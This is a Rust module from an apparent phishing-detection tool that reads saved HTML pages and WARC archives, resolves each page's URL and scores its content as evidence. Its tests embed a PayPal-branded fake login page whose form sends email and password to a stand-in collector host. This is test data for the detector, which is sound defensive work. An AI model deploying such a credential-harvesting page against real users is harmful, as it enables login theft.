//! Saved pages handed to the detector (`detect phishing --pages DIR`): WARC
//! archives (plain or compressed) and saved HTML files, each turned into the
//! content evidence of the URL it was served at.
//!
//! A WARC response names its URL. A saved HTML file gets it from an
//! `index.csv` in the folder (columns `file` and `url`, or `file` and
//! `domain` for a page known only by its host), else from the
//! `<!-- saved from url=(NNNN)URL -->` line browsers write when saving a
//! page. A file with no known URL, a damaged record or a file that is
//! neither is reported, never fatal.

use std::collections::{BTreeMap, HashMap};
use std::io::Read;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use anyhow::{Context, Result};
use borderscope_schema::{column as f, list_of, utc_micros};
use datafusion::arrow::array::{
    ArrayRef, Float64Builder, ListBuilder, RecordBatch, StringBuilder, TimestampMicrosecondBuilder,
};
use datafusion::arrow::datatypes::{DataType, Schema, SchemaRef};

use crate::html::MAX_HTML;
use crate::page::{ContentVerdict, PageScorer};
use crate::warc::{WarcItem, WarcReader};

/// The content evidence of one URL.
#[derive(Debug, Clone)]
pub struct PageEvidence {
    pub url: String,
    /// The file (and WARC offset) the page was read from.
    pub source: String,
    pub content: ContentVerdict,
}

/// What a pages folder gave.
#[derive(Debug, Default)]
pub struct PagesRead {
    /// The strongest evidence per URL.
    pub pages: Vec<PageEvidence>,
    /// Files and records that gave no evidence, with why.
    pub problems: Vec<String>,
    pub files: usize,
}

/// Reads every file under `dir`.
pub fn read_pages(dir: &Path, scorer: &PageScorer) -> Result<PagesRead> {
    let index = read_index(dir)?;
    let mut out = PagesRead::default();
    let mut best: BTreeMap<String, PageEvidence> = BTreeMap::new();
    for file in borderscope_ingest::run::list_files(&[dir.to_path_buf()])? {
        if file.file_name().is_some_and(|n| n == "index.csv") {
            continue;
        }
        out.files += 1;
        let key = file.canonicalize().unwrap_or_else(|_| file.clone());
        let url = index.get(&key).cloned();
        for item in read_file(&file, url, scorer) {
            match item {
                Ok(page) => keep_best(&mut best, page),
                Err(problem) => out.problems.push(format!("{}: {problem}", file.display())),
            }
        }
    }
    out.pages = best.into_values().collect();
    Ok(out)
}

fn keep_best(best: &mut BTreeMap<String, PageEvidence>, page: PageEvidence) {
    match best.get(&page.url) {
        Some(old) if old.content.score >= page.content.score => {}
        _ => {
            best.insert(page.url.clone(), page);
        }
    }
}

/// `index.csv` of the folder: file (canonical path) → URL.
fn read_index(dir: &Path) -> Result<HashMap<PathBuf, String>> {
    let path = dir.join("index.csv");
    let mut out = HashMap::new();
    if !path.exists() {
        return Ok(out);
    }
    let mut csv = csv::ReaderBuilder::new()
        .flexible(true)
        .from_path(&path)
        .with_context(|| format!("opening {}", path.display()))?;
    let header = csv
        .headers()
        .with_context(|| format!("reading {}", path.display()))?
        .clone();
    let col = |n: &str| header.iter().position(|h| h.trim().eq_ignore_ascii_case(n));
    let Some(file_col) = col("file") else {
        anyhow::bail!("{}: needs a `file` column", path.display());
    };
    let (url_col, domain_col) = (col("url"), col("domain"));
    for rec in csv.records().flatten() {
        let value = |c: Option<usize>| {
            c.and_then(|c| rec.get(c))
                .map(str::trim)
                .filter(|v| !v.is_empty())
        };
        let (Some(file), Some(url)) = (value(Some(file_col)), value(url_col).or(value(domain_col)))
        else {
            continue;
        };
        let full = dir.join(file);
        out.insert(full.canonicalize().unwrap_or(full), url.to_string());
    }
    Ok(out)
}

type Item = std::result::Result<PageEvidence, String>;

/// The pages of one file: the records of a WARC, or one saved HTML page.
fn read_file(file: &Path, url: Option<String>, scorer: &PageScorer) -> Vec<Item> {
    let (mut reader, _) = match borderscope_ingest::input::open(file) {
        Ok(r) => r,
        Err(e) => return vec![Err(format!("unreadable: {e}"))],
    };
    let mut head = Vec::new();
    if let Err(e) = (&mut reader).take(8).read_to_end(&mut head) {
        return vec![Err(format!("unreadable: {e}"))];
    }
    let whole = std::io::Cursor::new(head.clone()).chain(reader);
    if head.starts_with(b"WARC/") {
        return read_warc(file, std::io::BufReader::new(whole), scorer);
    }
    let mut bytes = Vec::new();
    if let Err(e) = whole.take(MAX_HTML as u64).read_to_end(&mut bytes) {
        return vec![Err(format!("unreadable: {e}"))];
    }
    let start = &bytes[..bytes.len().min(4096)];
    if !start.contains(&b'<') {
        return vec![Err("neither HTML nor WARC: skipped".into())];
    }
    let Some(url) = url.or_else(|| saved_from(&bytes)) else {
        return vec![Err(
            "no URL known for this page (list it in index.csv, or keep the `saved from url=` line)"
                .into(),
        )];
    };
    let content = scorer.content(&bytes, Some(&url));
    vec![Ok(PageEvidence {
        url,
        source: file.display().to_string(),
        content,
    })]
}

fn read_warc(file: &Path, input: impl std::io::BufRead, scorer: &PageScorer) -> Vec<Item> {
    WarcReader::new(input)
        .filter_map(|item| match item {
            WarcItem::Page(p) if p.url.is_empty() => Some(Err(format!(
                "record at offset {} has no WARC-Target-URI",
                p.offset
            ))),
            WarcItem::Page(p) => Some(Ok(PageEvidence {
                content: scorer.content(&p.body, Some(&p.url)),
                source: format!("{}@{}", file.display(), p.offset),
                url: p.url,
            })),
            WarcItem::Skipped => None,
            WarcItem::Bad { offset, reason } => Some(Err(format!("offset {offset}: {reason}"))),
        })
        .collect()
}

/// The URL of `<!-- saved from url=(0044)https://... -->`, which browsers
/// write at the top of a saved page.
fn saved_from(bytes: &[u8]) -> Option<String> {
    let head = String::from_utf8_lossy(&bytes[..bytes.len().min(2048)]);
    let at = head.find("saved from url=(")? + "saved from url=(".len();
    let rest = &head[at..];
    let rest = &rest[rest.find(')')? + 1..];
    let url = rest
        .split_whitespace()
        .next()?
        .trim_end_matches("-->")
        .to_string();
    (!url.is_empty()).then_some(url)
}

/// The in-memory table of page evidence the detector's plan joins.
pub fn evidence_schema() -> SchemaRef {
    Arc::new(Schema::new(vec![
        f("url", DataType::Utf8),
        f("source", DataType::Utf8),
        f("score", DataType::Float64),
        f("brand", DataType::Utf8),
        f("country", DataType::Utf8),
        f("reasons", list_of(DataType::Utf8)),
        f("seen", utc_micros()),
    ]))
}

pub fn evidence_batch(pages: &[PageEvidence]) -> Result<RecordBatch> {
    let mut url = StringBuilder::new();
    let mut source = StringBuilder::new();
    let mut score = Float64Builder::new();
    let mut brand = StringBuilder::new();
    let mut country = StringBuilder::new();
    let mut reasons = ListBuilder::new(StringBuilder::new());
    let mut seen = TimestampMicrosecondBuilder::new().with_timezone("UTC");
    for p in pages {
        url.append_value(&p.url);
        source.append_value(&p.source);
        score.append_value(p.content.score);
        brand.append_option(p.content.brand.as_deref());
        country.append_option(p.content.country.as_deref());
        for r in &p.content.reasons {
            reasons.values().append_value(r);
        }
        reasons.append(true);
        // Saved pages carry no trustworthy time of their own.
        seen.append_null();
    }
    let cols: Vec<ArrayRef> = vec![
        Arc::new(url.finish()),
        Arc::new(source.finish()),
        Arc::new(score.finish()),
        Arc::new(brand.finish()),
        Arc::new(country.finish()),
        Arc::new(reasons.finish()),
        Arc::new(seen.finish()),
    ];
    Ok(RecordBatch::try_new(evidence_schema(), cols)?)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Registry, Scorer};

    const KIT: &str = "<html><head><title>Log in to your PayPal account</title></head><body>\
        <form action='https://collector.example.net/post.php' method=post>\
        <input name=email><input type=password name=pass></form></body></html>";

    fn scorer() -> PageScorer {
        PageScorer::new(Scorer::new(Registry::builtin())).unwrap()
    }

    #[test]
    fn html_files_by_index_or_saved_from_line_and_warc_records() {
        let dir = tempfile::tempdir().unwrap();
        let d = dir.path();
        std::fs::write(d.join("a.html"), KIT).unwrap();
        std::fs::write(
            d.join("b.htm"),
            format!("<!-- saved from url=(0033)http://bakery.example/wp/x.php -->\n{KIT}"),
        )
        .unwrap();
        std::fs::write(d.join("c.html"), KIT).unwrap();
        std::fs::write(d.join("notes.txt"), "just notes").unwrap();
        std::fs::write(
            d.join("index.csv"),
            "file,domain\na.html,login-hub.example\n",
        )
        .unwrap();
        let body = format!("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n{KIT}");
        let warc = format!(
            "WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: http://203.0.113.8/x/\r\nContent-Length: {}\r\n\r\n{body}\r\n\r\nWARC/1.0\r\nContent-Length: x\r\n\r\n",
            body.len()
        );
        std::fs::create_dir(d.join("crawl")).unwrap();
        std::fs::write(d.join("crawl/c.warc"), warc).unwrap();
        let read = read_pages(d, &scorer()).unwrap();
        let urls: Vec<_> = read.pages.iter().map(|p| p.url.as_str()).collect();
        assert_eq!(
            urls,
            vec![
                "http://203.0.113.8/x/",
                "http://bakery.example/wp/x.php",
                "login-hub.example"
            ]
        );
        assert!(read
            .pages
            .iter()
            .all(|p| p.content.brand.as_deref() == Some("PayPal") && p.content.score > 0.5));
        let problems = read.problems.join("\n");
        assert!(problems.contains("c.html: no URL known"), "{problems}");
        assert!(
            problems.contains("notes.txt: neither HTML nor WARC"),
            "{problems}"
        );
        assert!(problems.contains("c.warc: offset"), "{problems}");
        let batch = evidence_batch(&read.pages).unwrap();
        assert_eq!(batch.num_rows(), 3);
    }

    #[test]
    fn broken_pages_give_evidence_without_crashing() {
        let dir = tempfile::tempdir().unwrap();
        let d = dir.path();
        std::fs::write(
            d.join("x.html"),
            b"<!-- saved from url=(0020)http://x.example/ -->\n<form action='http://[::1'><input type=password\0\xff",
        )
        .unwrap();
        let read = read_pages(d, &scorer()).unwrap();
        assert_eq!(read.pages.len(), 1);
        assert!(read.pages[0].content.brand.is_none());
    }
}
